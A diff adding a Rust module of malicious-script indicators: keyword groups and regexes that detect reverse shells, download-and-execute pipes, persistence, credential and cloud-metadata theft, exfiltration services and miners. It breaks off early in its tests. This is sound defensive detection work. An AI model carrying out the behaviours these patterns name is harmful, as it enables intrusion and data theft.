@@ -1,0 +1,745 @@
+//! Named indicators: what an analyst looks for in a script, each with the words
+//! used to explain a score. An indicator fires when every literal group has a
+//! hit (one Aho-Corasick pass over the text finds them all) and then, where
+//! set, its confirming regex matches. Regexes only run on texts that passed
+//! the literal gate, which keeps a 64 KiB benign script cheap.
+
+use std::sync::OnceLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::bytes::Regex;
+
+/// How an indicator is confirmed once its literal groups have all hit.
+pub enum Confirm {
+    /// The literal groups are enough.
+    Literals,
+    /// A regex (compiled case-insensitive, ASCII) must match.
+    Regex(&'static str),
+    /// The regex must match where `accept` says yes (e.g. an IP that is not loopback).
+    RegexWhere(&'static str, fn(&regex::bytes::Captures<'_>) -> bool),
+    /// The first group's literals together occur at least this often.
+    MinCount(u32),
+}
+
+pub struct IndicatorDef {
+    pub id: &'static str,
+    /// Analyst words for the evidence list.
+    pub evidence: &'static str,
+    /// Each group needs at least one of its literals (ASCII case-insensitive) in the text.
+    pub all_of: &'static [&'static [&'static str]],
+    pub confirm: Confirm,
+}
+
+const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch ", "lwp-download", "tftp"];
+const PY_DOWNLOADERS: &[&str] = &[
+    "urlopen",
+    "urlretrieve",
+    "requests.get",
+    "requests.post",
+    "requests.request",
+    "httpx.",
+    "wget.download",
+    "pycurl",
+    "aiohttp",
+    "http.client",
+    "curl",
+    "wget",
+];
+
+/// The indicator table. Order is part of the feature layout: append, never reorder,
+/// and bump `FEATURE_VERSION` in `features.rs` when changing it.
+pub const INDICATORS: &[IndicatorDef] = &[
+    IndicatorDef {
+        id: "download_pipe_interpreter",
+        evidence: "downloads with curl/wget and pipes it straight into a shell or interpreter",
+        all_of: &[&["curl", "wget", "fetch"]],
+        confirm: Confirm::Regex(
+            r"\b(curl|wget|fetch)\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(env\s+)?(/usr(/local)?/bin/|/bin/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php|node)\b|\b((ba|da|z|k)?sh|python[0-9.]*)\s+(-c\s+)?[\x22']?\$\(\s*(curl|wget)|<\(\s*(curl|wget)",
+        ),
+    },
+    IndicatorDef {
+        id: "download_then_chmod_x",
+        evidence: "downloads a file and marks it executable",
+        all_of: &[PY_DOWNLOADERS, &["chmod"]],
+        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugoa]*\+[rwxs]*x|0?[0-7]?[0-7][1357]\b|[0-7]{3}[1357]\b)|os\.chmod\("),
+    },
+    IndicatorDef {
+        id: "download_to_tmp",
+        evidence: "downloads into /tmp, /var/tmp or /dev/shm",
+        all_of: &[DOWNLOADERS, &["/tmp", "/dev/shm", "/var/tmp"]],
+        confirm: Confirm::Regex(r"\b(curl|wget)\b[^\n;|]*(-o|-O|-P|--output|>)\s*[\x22']?(/tmp|/var/tmp|/dev/shm)|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(\n|&&|;)\s*(curl|wget)"),
+    },
+    IndicatorDef {
+        id: "chmod_x_in_tmp",
+        evidence: "makes a file in /tmp or /dev/shm executable",
+        all_of: &[&["chmod"], &["/tmp", "/dev/shm", "/var/tmp"]],
+        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugoa]*\+[rwxs]*x|[0-7]?[0-7][0-7][1357])\s+[\x22']?(/tmp|/var/tmp|/dev/shm)/"),
+    },
+    IndicatorDef {
+        id: "exec_from_tmp",
+        evidence: "runs a program from /tmp or /dev/shm",
+        all_of: &[&["/tmp/", "/dev/shm/", "/var/tmp/"]],
+        confirm: Confirm::Regex(r"(^|\n|[;&|]\s*|nohup\s+|sudo\s+|setsid\s+|exec\s+)(/tmp|/var/tmp|/dev/shm)/[\w.\-/]+|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(&&|;|\n)\s*\./"),
+    },
+    IndicatorDef {
+        id: "dev_tcp",
+        evidence: "opens a TCP/UDP connection through /dev/tcp (reverse-shell idiom)",
+        all_of: &[&["/dev/tcp/", "/dev/udp/"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "netcat_shell",
+        evidence: "wires netcat to a shell (-e/-c or a fifo): reverse or bind shell",
+        all_of: &[&["nc", "netcat", "ncat"]],
+        confirm: Confirm::Regex(r"\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n]*(\s-[a-z]*[ec]\s|\s-[a-z]*[ec]$|/bin/(ba|da|z)?sh)|(mkfifo|mknod)[^\n]*\|\s*(nc|ncat|netcat)\b|\b(nc|ncat|netcat)\b[^\n]*\|\s*(/bin/)?(ba|da)?sh\b"),
+    },
+    IndicatorDef {
+        id: "socat_shell",
+        evidence: "socat connecting a shell to the network",
+        all_of: &[&["socat"]],
+        confirm: Confirm::Regex(r"socat\b[^\n]*(exec|system):"),
+    },
+    IndicatorDef {
+        id: "shell_io_redirect",
+        evidence: "interactive shell with its input and output redirected to a socket",
+        all_of: &[&[">&", "<&", "<>"]],
+        confirm: Confirm::Regex(r"\b(ba|da|z|k)?sh\s+-i\b[^\n]*[<>]&|0>&1|\b0<&\s*\d|\bexec\s+\d+<>\s*/dev/|>&\s*/dev/(tcp|udp)"),
+    },
+    IndicatorDef {
+        id: "python_socket_shell",
+        evidence: "Python socket connected out and wired to a shell (dup2/pty/subprocess)",
+        all_of: &[
+            &["socket"],
+            &["connect(", "bind("],
+            &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe", "[\"sh\"", "['sh'", "powershell", "stdin=s", "stdout=s"],
+        ],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "pty_spawn",
+        evidence: "spawns an interactive PTY shell (pty.spawn)",
+        all_of: &[&["pty.spawn", "spawn("], &["pty"]],
+        confirm: Confirm::Regex(r"pty\s*\.\s*spawn\s*\(|from\s+pty\s+import\s+spawn"),
+    },
+    IndicatorDef {
+        id: "shell_decode_exec",
+        evidence: "decodes (base64/hex/gzip) and runs the result in a shell",
+        all_of: &[&["base64", "base32", "xxd", "openssl", "gunzip", "zcat", "rev", "\\x"]],
+        confirm: Confirm::Regex(r"(base(64|32)\s+(-[a-z]*d|--decode|-D)|xxd\s+(-[a-z]*r)|openssl\s+(enc\s+)?[^\n|]*-d\b|gunzip|zcat|\brev\b|printf\s+[^\n|]*\\x)[^\n]*\|\s*(sudo\s+)?(/bin/|/usr/bin/)?((ba|da|z|k)?sh|python[0-9.]*|perl)\b|(eval|exec|(ba|da)?sh\s+-c)\s*[\x22']?\$\([^\n)]*(base(64|32)|xxd|openssl|gunzip|rev)"),
+    },
+    IndicatorDef {
+        id: "python_decode_exec",
+        evidence: "runs decoded or decompressed data with exec/eval (Python)",
+        all_of: &[
+            &["exec", "eval"],
+            &["b64decode", "b32decode", "b16decode", "a85decode", "b85decode", "decompress", "unhexlify", "fromhex", "marshal.loads", "codecs.decode", "rot13", "rot_13", "[::-1]", "decrypt", "fernet", "zlib", "lzma", "bz2"],
+        ],
+        confirm: Confirm::Regex(r"\b(exec|eval)\s*\("),
+    },
+    IndicatorDef {
+        id: "python_exec_call",
+        evidence: "executes dynamically built code with exec()/eval()",
+        all_of: &[&["exec", "eval"]],
+        confirm: Confirm::Regex(r"(^|[^\w.])(exec|eval)\s*\(\s*[^\x22'\s)]"),
+    },
+    IndicatorDef {
+        id: "hex_escaped_bytes",
+        evidence: "contains hex-escaped byte strings (\\x..)",
+        all_of: &[&["\\x"]],
+        confirm: Confirm::Regex(r"(\\x[0-9a-f]{2}){8,}"),
+    },
+    IndicatorDef {
+        id: "cron_persistence",
+        evidence: "installs a cron job (persistence)",
+        all_of: &[&["crontab", "/etc/cron", "/var/spool/cron", "cron.d", "periodic/"]],
+        confirm: Confirm::Regex(r"\|\s*crontab\b|crontab\s+(-u\s+\S+\s+)?(/|-\s*($|\n|;|&|\|)|[\w.]+\.\w+)|(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+)\s*[\x22']?(/etc/cron|/var/spool/cron|/etc/periodic)|open\([^)\n]*(/etc/cron|/var/spool/cron)"),
+    },
+    IndicatorDef {
+        id: "systemd_initd_persistence",
+        evidence: "writes a systemd unit, init script or rc.local (persistence)",
+        all_of: &[&["/systemd/", "/init.d", "rc.local", "/etc/rc"]],
+        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+|open\(\s*[\x22'])\s*[\x22']?\S*(/etc/systemd/system|/lib/systemd/system|\.config/systemd/user|/etc/init\.d/|/etc/rc\.local|/etc/rc\d\.d)"),
+    },
+    IndicatorDef {
+        id: "ld_so_preload",
+        evidence: "hooks every process through /etc/ld.so.preload",
+        all_of: &[&["ld.so.preload"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "ld_preload_env",
+        evidence: "injects a library with LD_PRELOAD",
+        all_of: &[&["ld_preload"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "ssh_authorized_keys",
+        evidence: "adds an SSH key to authorized_keys",
+        all_of: &[&["authorized_keys"]],
+        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+)\s*[\x22']?\S*authorized_keys|open\([^)\n]*authorized_keys[^)\n]*[\x22'][aw]"),
+    },
+    IndicatorDef {
+        id: "shell_rc_persistence",
+        evidence: "appends to shell startup files (.bashrc, /etc/profile) for persistence",
+        all_of: &[&["bashrc", "profile", "zshrc", "rc.local"]],
+        confirm: Confirm::Regex(r"(>>|\btee\s+-a\s+)\s*[\x22']?\S*(\.bashrc|\.bash_profile|\.profile|\.zshrc|/etc/profile|/etc/bash\.bashrc|/etc/rc\.local|/etc/profile\.d/)"),
+    },
+    IndicatorDef {
+        id: "crypto_miner",
+        evidence: "cryptocurrency miner or mining pool (xmrig, stratum+tcp)",
+        all_of: &[&[
+            "xmrig", "stratum+tcp", "stratum+ssl", "stratum2+", "minerd", "cpuminer", "cryptonight", "randomx", "monero", "nicehash", "nanopool", "minexmr", "supportxmr", "c3pool", "hashvault", "moneroocean", "f2pool", "2miners", "ethermine", "--donate-level", "xmr-stak", "kdevtmpfsi", "kinsing", "coinhive", "lolminer", "nbminer", "phoenixminer", "t-rex", "--coin", "--algo",
+        ]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "history_wipe",
+        evidence: "clears or disables shell history",
+        all_of: &[&["hist"]],
+        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*/dev/null|HISTSIZE=0|HISTFILESIZE=0|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
+    },
+    IndicatorDef {
+        id: "log_wipe",
+        evidence: "wipes or truncates system logs",
+        all_of: &[&["/var/log", "wtmp", "btmp", "lastlog", "journalctl", "auth.log", "syslog", "utmp"]],
+        confirm: Confirm::Regex(r"rm\s+-[rf]+\s+[\x22']?/var/log|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
+    },
+    IndicatorDef {
+        id: "security_tools_disabled",
+        evidence: "disables security tooling (SELinux, firewall, audit, EDR agents)",
+        all_of: &[&[
+            "setenforce", "selinux", "systemctl", "service", "ufw", "iptables", "auditctl", "kill", "/proc/sys/kernel", "mdatp", "spctl", "mppreference", "realtime", "aegis", "aliyun", "apparmor",
+        ]],
+        confirm: Confirm::Regex(r"setenforce\s+0|SELINUX=disabled|(systemctl|service)\s+(stop|disable|mask)\s+[^\n]*(firewalld|apparmor|auditd|ufw|iptables|falco|osquery|aliyun|aegis|cloudmonitor|bcm-agent|wazuh|crowdstrike|falcon|sysdig|tetragon|clamav|selinux|yundun|qcloud)|(firewalld|apparmor|auditd|falco|aegis)\s+(stop|disable)|ufw\s+disable|iptables\s+(-F|--flush|-X|-P\s+INPUT\s+ACCEPT)|auditctl\s+-(D|e\s*0)|(pkill|killall|kill\s+-9)[^\n]*(auditd|falco|aliyun|aegis|osquery|wazuh)|/proc/sys/kernel/(nmi_watchdog|randomize_va_space|yama)|mdatp\s+[^\n]*disabled|spctl\s+--master-disable|Set-MpPreference|DisableRealtimeMonitoring|aegis_uninstall|uninstall[^\n]*(aegis|aliyun|qcloud|yunjing)"),
+    },
+    IndicatorDef {
+        id: "credential_access",
+        evidence: "reads credential or secret stores (shadow, SSH keys, cloud/kube credentials, wallets)",
+        all_of: &[&[
+            "/etc/shadow", "/.ssh/id_", ".ssh/id_rsa", "id_ed25519", "id_dsa", ".aws/credentials", ".docker/config.json", ".kube/config", "kubernetes.io/serviceaccount", "serviceaccount/token", ".git-credentials", ".netrc", ".pgpass", "gshadow", "master.passwd", "opasswd", "wallet.dat", "keychain", ".bitcoin", "electrum", "exodus", "metamask", "/environ", "mimipenguin", "lazagne", ".bash_history", "credentials.db", "access_tokens.db", ".vault-token", "gcloud/",
+        ]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "cloud_metadata",
+        evidence: "queries the cloud instance metadata service (credential theft)",
+        all_of: &[&["169.254.169.254", "metadata.google.internal", "100.100.100.200", "latest/meta-data", "computemetadata", "metadata/instance", "fd00:ec2::254", "metadata/identity", "latest/api/token"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "exfil_service",
+        evidence: "sends data to a webhook, paste or out-of-band service (Discord/Telegram/pastebin/ngrok)",
+        all_of: &[&[
+            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
+        ]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "public_ip_lookup",
+        evidence: "looks up the machine's public IP or geolocation",
+        all_of: &[&["ipinfo.io", "ip-api.com", "ifconfig.me", "api.ipify.org", "icanhazip", "checkip", "ipecho", "myexternalip", "wtfismyip", "ident.me", "geolocation-db", "ipapi.co"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "browser_token_stealer",
+        evidence: "steals browser passwords/cookies or Discord tokens",
+        all_of: &[
+            &["leveldb", "login data", "cryptunprotectdata", "win32crypt", "local state", "cookies", "web data", "tokens"],
+            &["appdata", "roaming", "localappdata", "google\\chrome", "google/chrome", "discord", "opera", "brave", "yandex", "microsoft\\edge", "mozilla"],
+        ],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "windows_lolbins",
+        evidence: "runs Windows LOLBins (PowerShell, cmd, certutil, mshta, bitsadmin)",
+        all_of: &[&["powershell", "cmd.exe", "cmd /c", "certutil", "mshta", "bitsadmin", "regsvr32", "rundll32", "wscript", "cscript", "schtasks", "-encodedcommand", "start /b", "vbs"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "windows_exe_dropper",
+        evidence: "downloads and starts a Windows executable",
+        all_of: &[&[".exe", ".scr", ".bat", ".vbs", ".dll"], PY_DOWNLOADERS],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "windows_persistence",
+        evidence: "Windows persistence or stealth (Run key, startup folder, hidden files, startfile)",
+        all_of: &[&["currentversion\\run", "currentversion\\\\run", "start menu\\programs\\startup", "startup", "attrib +h", "os.startfile", "ctypes.windll", "winreg", "_winreg", "hidden"]],
+        confirm: Confirm::Regex(r"CurrentVersion\\+Run|\\Startup|attrib\s+\+h|os\.startfile|ctypes\.windll|\b_?winreg\b|creationflags\s*=\s*(0x08000000|subprocess\.CREATE_NO_WINDOW)|STARTF_USESHOWWINDOW"),
+    },
+    IndicatorDef {
+        id: "setup_py_install_hook",
+        evidence: "runs commands at pip-install time (setup.py install hook)",
+        all_of: &[
+            &["cmdclass", "command.install", "command.develop", "command.egg_info", "install.run(", "setup("],
+            &["os.system", "subprocess", "urlopen", "requests.", "exec(", "popen", "socket", "urlretrieve", "__import__", "eval("],
+        ],
+        confirm: Confirm::Regex(r"cmdclass|command\.(install|develop|egg_info)|class\s+\w+\s*\(\s*(install|develop|egg_info)\b"),
+    },
+    IndicatorDef {
+        id: "python_download_exec",
+        evidence: "downloads from the network and runs commands or the payload (Python)",
+        all_of: &[PY_DOWNLOADERS, &["os.system", "subprocess", "exec(", "popen", "os.startfile", "os.chmod", "check_output", "os.exec"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "raw_ip_url",
+        evidence: "contacts a hard-coded public IP address",
+        all_of: &[&["://", "connect(", "(\"", "('", "@"]],
+        confirm: Confirm::RegexWhere(
+            r"(?:(?:https?|ftp|tcp|udp|ssh)://|connect\(\(\s*[\x22']|@)(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}\b",
+            public_ip,
+        ),
+    },
+    IndicatorDef {
+        id: "python_chr_obfuscation",
+        evidence: "builds strings from chr() codes (obfuscation)",
+        all_of: &[&["chr("]],
+        confirm: Confirm::MinCount(8),
+    },
+    IndicatorDef {
+        id: "string_reversal",
+        evidence: "reverses strings before use (obfuscation)",
+        all_of: &[&["[::-1]", "rev"]],
+        confirm: Confirm::Regex(r"\[::-1\]|\|\s*rev\b"),
+    },
+    IndicatorDef {
+        id: "shell_quote_splitting",
+        evidence: "splits command names with quotes or escapes (c''url, w\\get)",
+        all_of: &[&["''", "\"\"", "\\", "$@"]],
+        confirm: Confirm::Regex(r"(^|[\s;|&(])[a-z]{1,6}(''|\x22\x22|\\|\$@)[a-z]{1,6}\b"),
+    },
+    IndicatorDef {
+        id: "shell_var_slicing",
+        evidence: "assembles commands from variable substrings or character tables",
+        all_of: &[&["${", "$'\\"]],
+        confirm: Confirm::Regex(r"(\$\{\w+:\d+:\d+\}[^\n]{0,40}){4,}|(\$'\\[0-7x][0-9a-f]{1,3}'?[^\n]{0,4}){6,}"),
+    },
+    IndicatorDef {
+        id: "python_dynamic_import",
+        evidence: "dynamic import or builtins lookup to hide what is called",
+        all_of: &[&["__import__", "__builtins__", "globals()[", "getattr(", "importlib"]],
+        confirm: Confirm::Regex(r"__import__\s*\(\s*[\x22']?(os|subprocess|base64|socket|zlib|marshal|builtins|pty|ctypes|requests|urllib)|__builtins__\s*[.\[]|getattr\(\s*__import__|globals\(\)\s*\[\s*[\x22']"),
+    },
+    IndicatorDef {
+        id: "python_packer",
+        evidence: "packed or obfuscated with a Python packer (marshal, pyarmor, lambda-obfuscation)",
+        all_of: &[&["marshal.loads", "pyarmor", "obfuscated by", "blankobf", "hyperion", "kramer", "lambda _", "_____", "pyobfuscate", "development-tools.net", "berserk", "vare"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "privilege_backdoor",
+        evidence: "privilege escalation or backdoor account (setuid, sudoers, uid-0 user)",
+        all_of: &[&["chmod", "nopasswd", "sudoers", "useradd", "/etc/passwd", ":0:0", "usermod", "setuid", "+s"]],
+        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugo]*\+[a-z]*s|[2467][0-7]{3})\b|NOPASSWD|(>>|\btee\s+-a)\s*[\x22']?/etc/sudoers|useradd\s+[^\n]*-o\b[^\n]*-u\s*0\b|useradd\s+[^\n]*-u\s*0\b[^\n]*-o\b|(>>|\btee\s+-a)\s*[\x22']?/etc/passwd|:0:0:[^\n]*(>>|tee)|usermod\s+[^\n]*-G\s+(sudo|wheel|root)|os\.setuid\(\s*0\s*\)"),
+    },
+    IndicatorDef {
+        id: "container_escape",
+        evidence: "container escape technique (docker.sock, nsenter into pid 1, cgroup release_agent, host mounts)",
+        all_of: &[&["docker.sock", "nsenter", "release_agent", "notify_on_release", "core_pattern", "/proc/1/", "chroot", "-v /:", "--pid", "--privileged", "mount", "/host"]],
+        confirm: Confirm::Regex(r"docker\.sock|nsenter\s+[^\n]*(-t\s*1\b|--target[= ]1\b|-a\b)|release_agent|notify_on_release|/proc/sys/kernel/core_pattern|-v\s+/:/|--pid[= ]host|/proc/1/root|chroot\s+/(host|mnt)\b|--privileged[^\n]*(-v\s+/:|chroot|nsenter)|mount\s+[^\n]*/dev/([sv]d[a-z]|nvme|xvd)"),
+    },
+    IndicatorDef {
+        id: "kill_competitors",
+        evidence: "kills competing miners or malware",
+        all_of: &[&["kill", "pkill"], &["xmr", "miner", "kinsing", "kdevtmpfsi", "stratum", "watchbog", "sysupdate", "networkservice", "ddgs", "kthreaddi", "cryptonight", "aliyun", "/tmp/", "grep -v"]],
+        confirm: Confirm::Regex(r"(pkill|killall|kill\s+-9)[^\n]*(xmr|miner|kinsing|kdevtmpfsi|watchbog|sysupdate|networkservice|ddgs|kthreaddi|cryptonight|/tmp/)|ps\s+[^\n]*grep[^\n]*(xmr|miner|stratum|kinsing|kdevtmpfsi)[^\n]*(kill|awk)|grep\s+-v\s+[^\n]*\|\s*awk[^\n]*\|\s*xargs\s+(-[a-z]+\s+)*kill"),
+    },
+    IndicatorDef {
+        id: "chattr_lock",
+        evidence: "locks or unlocks files with chattr (anti-removal)",
+        all_of: &[&["chattr"]],
+        confirm: Confirm::Regex(r"chattr\s+(-R\s+)?[+-][ia]"),
+    },
+    IndicatorDef {
+        id: "process_hiding",
+        evidence: "hides or renames a process (bind-mount over /proc, exec -a, prctl)",
+        all_of: &[&["/proc/", "libprocesshider", "exec -a", "prctl", "pr_set_name", "setproctitle"]],
+        confirm: Confirm::Regex(r"mount\s+(-o\s+bind|--bind|-B)\s+\S+\s+/proc/|libprocesshider|\bexec\s+-a\s|prctl\s*\(|PR_SET_NAME|setproctitle"),
+    },
+    IndicatorDef {
+        id: "shell_escape_spawn",
+        evidence: "spawns an interactive /bin/sh from another program (shell escape)",
+        all_of: &[&["/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/ash"]],
+        confirm: Confirm::Regex(r"[\x22']/bin/(ba|z|da|a)?sh[\x22']|(^|[^#])!/bin/(ba|z|da)?sh|\bexec\s+/bin/(ba|z|da)?sh|/bin/(ba|z|da)?sh\s+-(i|p)\b|os\.exec\w*\(\s*[\x22']/bin/|os\.system\(\s*[\x22']/bin/(ba|z)?sh|spawn\s+/bin/(ba)?sh"),
+    },
+    IndicatorDef {
+        id: "tor_proxy",
+        evidence: "uses Tor (.onion) or proxy chains",
+        all_of: &[&[".onion", "torsocks", "proxychains", "tor2web", "socks5h://"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "scanner_tools",
+        evidence: "network scanning or brute-force tools (nmap, masscan, hydra)",
+        all_of: &[&["masscan", "zmap", "nmap", "hydra", "medusa", "pnscan", "zgrab"]],
+        confirm: Confirm::Regex(r"\b(masscan|zmap|nmap|hydra|medusa|pnscan|zgrab2?)\b"),
+    },
+    IndicatorDef {
+        id: "ssh_lateral",
+        evidence: "spreads over SSH using known_hosts or non-interactive logins",
+        all_of: &[&["known_hosts", "stricthostkeychecking", "sshpass", "batchmode"]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "keylog_screenshot",
+        evidence: "captures keystrokes or screenshots",
+        all_of: &[&["pynput", "keyboard.on_press", "getasynckeystate", "imagegrab", "pyautogui.screenshot", "setwindowshookex", "keylogger", "mss.mss", "screenshot("]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "curl_upload",
+        evidence: "uploads local files with curl (exfiltration)",
+        all_of: &[&["curl"]],
+        confirm: Confirm::Regex(r"\bcurl\s+[^\n]*(-F\s*[\x22']?\w*=@|--upload-file|\s-T\s|--data(-binary)?\s+[\x22']?@|\s-d\s+[\x22']?@)"),
+    },
+    IndicatorDef {
+        id: "background_detach",
+        evidence: "starts a detached background process that survives the shell",
+        all_of: &[&["nohup", "setsid", "disown", "&"]],
+        confirm: Confirm::Regex(r"\bnohup\s+[^\n]*&|\bsetsid\s+\S|\bdisown\b|>\s*/dev/null\s+2>&1\s*&\s*($|\n|;)"),
+    },
+    IndicatorDef {
+        id: "tls_checks_disabled",
+        evidence: "downloads with certificate checks disabled",
+        all_of: &[&["--insecure", "-k", "--no-check-certificate", "verify=false", "_create_unverified_context", "cert_none"]],
+        confirm: Confirm::Regex(r"\bcurl\s+[^\n]*(-[a-z]*k\b|--insecure)|--no-check-certificate|verify\s*=\s*False|_create_unverified_context|CERT_NONE"),
+    },
+    IndicatorDef {
+        id: "python_shell_command",
+        evidence: "runs shell commands from Python (os.system/popen/shell=True)",
+        all_of: &[&["os.system", "os.popen", "shell=true", "getoutput", "commands."]],
+        confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "python_socket",
+        evidence: "opens a raw network socket (Python)",
+        all_of: &[&["socket"]],
+        confirm: Confirm::Regex(r"socket\.socket\(|\bsocket\(\s*(socket\.)?AF_INET|\.connect\(\(|create_connection\("),
+    },
+    IndicatorDef {
+        id: "discovery_recon",
+        evidence: "host and user discovery commands (whoami, id, uname, /etc/passwd)",
+        all_of: &[&["whoami", "uname -a", "/etc/passwd", "hostname", "ifconfig", "ip a", "netstat", "ps aux", "getuid", "/etc/issue", "/proc/version", "lsb_release"]],
+        confirm: Confirm::Regex(r"\bwhoami\b|uname\s+-a|cat\s+/etc/(passwd|issue|group|hosts)|\bifconfig\b|\bnetstat\s+-|/proc/version|\bid\s*(;|$|&&|\|)|ps\s+aux|getpass\.getuser|platform\.uname|socket\.gethostname"),
+    },
+    IndicatorDef {
+        id: "env_exfil",
+        evidence: "collects environment variables or system info and sends it out",
+        all_of: &[&["os.environ", "printenv", "env |", "getpass", "platform.", "gethostname", "getuser", "/etc/passwd"], PY_DOWNLOADERS],
+        confirm: Confirm::Literals,
+    },
+];
+
+fn public_ip(caps: &regex::bytes::Captures<'_>) -> bool {
+    let octet = |i: usize| {
+        caps.get(i)
+            .and_then(|m| std::str::from_utf8(m.as_bytes()).ok())
+            .and_then(|s| s.parse::<u16>().ok())
+            .unwrap_or(0)
+    };
+    let (a, b) = (octet(1), octet(2));
+    // Loopback, unspecified and link-local are not someone else's server.
+    !(a == 127 || a == 0 || a > 255 || (a == 169 && b == 254))
+}
+
+/// The compiled indicator set: one automaton over all literals, one regex per indicator.
+pub struct Indicators {
+    automaton: AhoCorasick,
+    /// For each indicator and each of its groups: the literal ids in the automaton.
+    groups: Vec<Vec<Vec<usize>>>,
+    regexes: Vec<Option<Regex>>,
+    n_literals: usize,
+}
+
+impl Indicators {
+    pub fn get() -> &'static Indicators {
+        static COMPILED: OnceLock<Indicators> = OnceLock::new();
+        COMPILED.get_or_init(Indicators::compile)
+    }
+
+    fn compile() -> Indicators {
+        let mut literals: Vec<String> = Vec::new();
+        let mut id_of = |lit: &str| -> usize {
+            let lit = lit.to_ascii_lowercase();
+            match literals.iter().position(|l| *l == lit) {
+                Some(i) => i,
+                None => {
+                    literals.push(lit);
+                    literals.len() - 1
+                }
+            }
+        };
+        let groups = INDICATORS
+            .iter()
+            .map(|ind| {
+                ind.all_of
+                    .iter()
+                    .map(|g| g.iter().map(|l| id_of(l)).collect())
+                    .collect()
+            })
+            .collect();
+        let regexes = INDICATORS
+            .iter()
+            .map(|ind| match ind.confirm {
+                Confirm::Regex(re) | Confirm::RegexWhere(re, _) => Some(
+                    Regex::new(&format!("(?i-u){re}"))
+                        .unwrap_or_else(|e| panic!("indicator {}: bad regex: {e}", ind.id)),
+                ),
+                _ => None,
+            })
+            .collect();
+        let automaton = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .build(&literals)
+            .expect("indicator literals compile");
+        Indicators {
+            automaton,
+            groups,
+            regexes,
+            n_literals: literals.len(),
+        }
+    }
+
+    /// Which indicators fire on `text`, in table order.
+    pub fn evaluate(&self, text: &str) -> Vec<bool> {
+        let mut counts = vec![0u32; self.n_literals];
+        for m in self.automaton.find_overlapping_iter(text.as_bytes()) {
+            counts[m.pattern().as_usize()] += 1;
+        }
+        INDICATORS
+            .iter()
+            .enumerate()
+            .map(|(i, ind)| {
+                let groups = &self.groups[i];
+                if !groups.iter().all(|g| g.iter().any(|&l| counts[l] > 0)) {
+                    return false;
+                }
+                match ind.confirm {
+                    Confirm::Literals => true,
+                    Confirm::MinCount(n) => groups[0].iter().map(|&l| counts[l]).sum::<u32>() >= n,
+                    Confirm::Regex(_) => self.regexes[i]
+                        .as_ref()
+                        .is_some_and(|r| r.is_match(text.as_bytes())),
+                    Confirm::RegexWhere(_, accept) => self.regexes[i]
+                        .as_ref()
+                        .is_some_and(|r| r.captures_iter(text.as_bytes()).any(|c| accept(&c))),
+                }
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn fired(text: &str) -> Vec<&'static str> {
+        Indicators::get()
+            .evaluate(text)
+            .into_iter()
+            .zip(INDICATORS)
+            .filter(|(on, _)| *on)
+            .map(|(_, d)| d.id)
+            .collect()
+    }
+
+    fn fires(text: &str, id: &str) -> bool {
+        fired(text).contains(&id)
+    }
+
+    #[test]
+    fn ids_are_unique() {
+        let mut ids: Vec<_> = INDICATORS.iter().map(|d| d.id).collect();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(ids.len(), INDICATORS.len());
